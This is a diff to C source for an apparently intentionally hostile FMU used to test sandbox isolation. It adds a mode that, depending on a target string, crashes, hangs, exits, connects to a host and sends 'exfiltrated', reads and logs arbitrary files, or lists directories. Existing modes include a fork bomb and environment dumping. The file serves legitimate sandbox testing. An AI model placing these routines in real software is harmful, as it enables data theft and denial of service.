@@ -12,6 +12,11 @@
  *   -DHOSTILE_READFILE  reads the file named by "target" and logs its content
  *   -DHOSTILE_BIGFILE   writes an ever-growing file into its working directory
  *   -DHOSTILE_ENV       logs its whole environment and looks for the variable named by "target"
+ *   -DHOSTILE_SWITCH    well-behaved like GOOD unless "target" names a misbehaviour, so that one
+ *                       FMU can mix behaviours across the runs of a batch: "segfault", "abort",
+ *                       "loop", "exit" (exit(3)), "connect:host:port", "read:/path", "write"
+ *                       (creates scratch.txt in its working directory), "list" (logs the files
+ *                       there); every run logs how many instances its process has created
  * The attacks that can be stopped without killing the process (connect, read, env) report
  * failure as fmi2Error and success as y = 1 plus a log line with what they obtained.
  */
@@ -50,6 +55,55 @@ static void say(Instance *c, fmi2Status status, const char *fmt, ...) {
 static void *volatile keep_alive;
 #endif
 
+#ifdef HOSTILE_SWITCH
+#include <dirent.h>
+static int instances_in_process;
+#endif
+
+#if defined(HOSTILE_CONNECT) || defined(HOSTILE_SWITCH)
+static fmi2Status connect_to(Instance *c, const char *target) {
+    char host[256] = "127.0.0.1";
+    int port = 0;
+    if (sscanf(target, "%255[^:]:%d", host, &port) != 2) return fmi2Error;
+    int s = socket(AF_INET, SOCK_STREAM, 0);
+    if (s < 0) {
+        say(c, fmi2Error, "socket failed: %s", strerror(errno));
+        return fmi2Error;
+    }
+    struct sockaddr_in addr;
+    memset(&addr, 0, sizeof addr);
+    addr.sin_family = AF_INET;
+    addr.sin_port = htons((unsigned short)port);
+    inet_pton(AF_INET, host, &addr.sin_addr);
+    if (connect(s, (struct sockaddr *)&addr, sizeof addr) != 0) {
+        say(c, fmi2Error, "connect failed: %s", strerror(errno));
+        close(s);
+        return fmi2Error;
+    }
+    send(s, "exfiltrated", 11, 0);
+    close(s);
+    say(c, fmi2OK, "connected to %s", target);
+    return fmi2OK;
+}
+#endif
+
+#if defined(HOSTILE_READFILE) || defined(HOSTILE_SWITCH)
+static fmi2Status read_file(Instance *c, const char *path) {
+    FILE *f = fopen(path, "rb");
+    if (!f) {
+        say(c, fmi2Error, "open failed: %s", strerror(errno));
+        return fmi2Error;
+    }
+    char buf[4096];
+    size_t n = fread(buf, 1, sizeof buf - 1, f);
+    buf[n] = 0;
+    fclose(f);
+    say(c, fmi2OK, "read: %s", buf);
+    printf("stdout copy: %s\n", buf);
+    return fmi2OK;
+}
+#endif
+
 /* Returns fmi2OK when the attack "succeeded", fmi2Error when the sandbox stopped it. */
 static fmi2Status attack(Instance *c) {
 #if defined(HOSTILE_SEGFAULT)
@@ -71,41 +125,9 @@ static fmi2Status attack(Instance *c) {
 #elif defined(HOSTILE_FORKBOMB)
     for (;;) fork();
 #elif defined(HOSTILE_CONNECT)
-    char host[256] = "127.0.0.1";
-    int port = 0;
-    if (sscanf(c->target, "%255[^:]:%d", host, &port) != 2) return fmi2Error;
-    int s = socket(AF_INET, SOCK_STREAM, 0);
-    if (s < 0) {
-        say(c, fmi2Error, "socket failed: %s", strerror(errno));
-        return fmi2Error;
-    }
-    struct sockaddr_in addr;
-    memset(&addr, 0, sizeof addr);
-    addr.sin_family = AF_INET;
-    addr.sin_port = htons((unsigned short)port);
-    inet_pton(AF_INET, host, &addr.sin_addr);
-    if (connect(s, (struct sockaddr *)&addr, sizeof addr) != 0) {
-        say(c, fmi2Error, "connect failed: %s", strerror(errno));
-        close(s);
-        return fmi2Error;
-    }
-    send(s, "exfiltrated", 11, 0);
-    close(s);
-    say(c, fmi2OK, "connected to %s", c->target);
-    return fmi2OK;
+    return connect_to(c, c->target);
 #elif defined(HOSTILE_READFILE)
-    FILE *f = fopen(c->target, "rb");
-    if (!f) {
-        say(c, fmi2Error, "open failed: %s", strerror(errno));
-        return fmi2Error;
-    }
-    char buf[4096];
-    size_t n = fread(buf, 1, sizeof buf - 1, f);
-    buf[n] = 0;
-    fclose(f);
-    say(c, fmi2OK, "read: %s", buf);
-    printf("stdout copy: %s\n", buf);
-    return fmi2OK;
+    return read_file(c, c->target);
 #elif defined(HOSTILE_BIGFILE)
     static char chunk[1 << 20];
     memset(chunk, 'x', sizeof chunk);
@@ -133,6 +155,36 @@ static fmi2Status attack(Instance *c) {
     }
     say(c, fmi2OK, "found %s=%s", c->target, value);
     return fmi2OK;
+#elif defined(HOSTILE_SWITCH)
+    const char *t = c->target;
+    say(c, fmi2OK, "instance %d in this process", instances_in_process);
+    if (!strcmp(t, "segfault")) {
+        volatile int *p = NULL;
+        *p = 42;
+    } else if (!strcmp(t, "abort")) {
+        abort();
+    } else if (!strcmp(t, "loop")) {
+        volatile unsigned long n = 0;
+        for (;;) n++;
+    } else if (!strcmp(t, "exit")) {
+        exit(3);
+    } else if (!strncmp(t, "connect:", 8)) {
+        return connect_to(c, t + 8);
+    } else if (!strncmp(t, "read:", 5)) {
+        return read_file(c, t + 5);
+    } else if (!strcmp(t, "write")) {
+        FILE *f = fopen("scratch.txt", "w");
+        if (!f) return fmi2Error;
+        fputs("left behind", f);
+        fclose(f);
+    } else if (!strcmp(t, "list")) {
+        DIR *d = opendir(".");
+        struct dirent *e;
+        while (d && (e = readdir(d)) != NULL)
+            if (e->d_name[0] != '.') say(c, fmi2OK, "file: %s", e->d_name);
+        if (d) closedir(d);
+    }
+    return fmi2OK;
 #else /* HOSTILE_GOOD */
     (void)c;
     return fmi2OK;
@@ -154,6 +206,9 @@ fmi2Component fmi2Instantiate(fmi2String name, fmi2Type type, fmi2String guid, f
     if (type != fmi2CoSimulation || !functions) return NULL;
     Instance *c = calloc(1, sizeof(Instance));
     if (!c) return NULL;
+#ifdef HOSTILE_SWITCH
+    instances_in_process++;
+#endif
     c->cb = *functions;
     snprintf(c->name, sizeof c->name, "%s", name ? name : "hostile");
     return c;
@@ -272,12 +327,12 @@ fmi2Status fmi2DoStep(fmi2Component component, fmi2Real t, fmi2Real h, fmi2Boole
         c->attacked = 1;
         fmi2Status status = attack(c);
         if (status != fmi2OK) return status;
-#ifndef HOSTILE_GOOD
+#if !defined(HOSTILE_GOOD) && !defined(HOSTILE_SWITCH)
         c->y = 1.0; /* the attack worked */
 #endif
     }
     c->time = t + h;
-#ifdef HOSTILE_GOOD
+#if defined(HOSTILE_GOOD) || defined(HOSTILE_SWITCH)
     c->y = c->time + c->u;
 #endif
     return fmi2OK;
